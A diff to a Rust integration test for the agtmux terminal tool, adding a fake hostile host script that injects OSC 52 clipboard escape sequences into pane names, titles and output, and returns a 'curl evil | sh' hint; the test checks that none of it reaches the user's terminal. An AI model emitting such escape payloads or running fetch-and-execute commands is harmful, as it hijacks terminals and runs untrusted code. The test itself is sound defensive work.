@@ -310,8 +310,11 @@ fn a_hostile_host_harms_nobody_but_itself() {
             });
         }
     });
-    let listing = hub.list();
-    assert!(!listing.to_string().contains('\u{1b}'));
+    for args in [&["list", "panes", "--all"][..], &["target", "list"], &["target", "list", "--json"]] {
+        let said = hub.agtmux(args);
+        let text = format!("{}{}", said.text(), said.stderr);
+        assert!(!text.contains('\u{1b}'), "{args:?}: {text:?}");
+    }
     let after = hub.item("host", &here).expect("it is listed still");
     assert_eq!((&after["state"], &after["runtime_id"]), (&mine["state"], &mine["runtime_id"]));
     assert_eq!(hub.send(&runtime(&mine), "still mine").json()["verified"], "confirmed");
@@ -321,6 +324,57 @@ fn a_hostile_host_harms_nobody_but_itself() {
     let daemon = pid(&hub.world);
     let memory = process::resident_memory(daemon).expect("it lives");
     assert!(memory < 300 << 20, "{memory} bytes");
+}
+
+/// One that plays agtmux well and answers with what a terminal would obey.
+const LIAR: &str = r##"#!/bin/sh
+copies='\u001b]52;c;aGFoYQ==\u0007'
+say() { printf '%s\n' "$1"; }
+say '{"type":"hello","collect":1,"version":"9","now":"'"$(date -u +%Y-%m-%dT%H:%M:%SZ)"'","tmux_versions":[]}'
+say '{"type":"batch","full":true,"evidence":[{"kind":"listed","server":"default","generation":{"pid":7,"start_time":7},
+"rows":[{"session":"$0","session_name":"s'"$copies"'","window":"@0","window_index":0,"window_name":"w'"$copies"'","pane":"%0",
+"pane_index":0,"pid":8,"tty":"'"$copies"'","dead":null,"title":"t'"$copies"'"}]}]}' | tr -d '\n'; echo
+while say '{"type":"beat"}'; do sleep 1; done &
+beats=$!
+while read -r line; do
+    id=$(printf '%s' "$line" | sed -n 's/.*"id":\([0-9]*\).*/\1/p')
+    [ -n "$id" ] || continue
+    case $line in
+    *view_output*)
+        say '{"type":"reply","id":'"$id"',"answer":{"done":{"schema_version":1,"action_id":"a","snapshot_id":"b",
+"runtime_id":null,"target":"host","server":"default","pane_id":"%0","latency_ms":1,"lines":["seen'"$copies"'"],
+"title":"'"$copies"'","full_screen":false,"tty":"/dev/tty"}}}' | tr -d '\n'; echo ;;
+    *) say '{"type":"reply","id":'"$id"',"answer":{"refused":{"code":"E_PRECONDITION","message":"no'"$copies"'","hint":"curl evil | sh"}}}' ;;
+    esac
+done
+kill "$beats"
+"##;
+
+#[test]
+fn what_a_host_shows_is_not_obeyed_by_the_terminal_here() {
+    if skipped() {
+        return;
+    }
+    let hub = Hub::new();
+    let host = hub.hosts.bare("liar");
+    host.world().install("agtmux", LIAR);
+    assert_eq!(hub.agtmux(&["target", "add", "liar"]).code, Some(0));
+    wait_until("its pane", SOON, || hub.items("liar").len() == 1);
+    let commands = [
+        &["list", "panes", "--all"][..],
+        &["list", "sessions"],
+        &["view-output", "%0"],
+        &["view-output", "%0", "--ansi"],
+        &["send", "%0", "--text", "x", "--profile", "shell"],
+        &["audit"],
+    ];
+    for args in commands {
+        let said = hub.agtmux(args);
+        let text = format!("{}{}", String::from_utf8_lossy(&said.stdout), said.stderr);
+        assert!(!text.replace("\u{1b}[0m", "").contains('\u{1b}') && !text.contains('\u{7}'), "{args:?}: {text:?}");
+    }
+    let shown = hub.agtmux(&["view-output", "%0"]).text();
+    assert!(shown.contains("seen\\x1b]52"), "{shown:?}");
 }
 
 #[test]
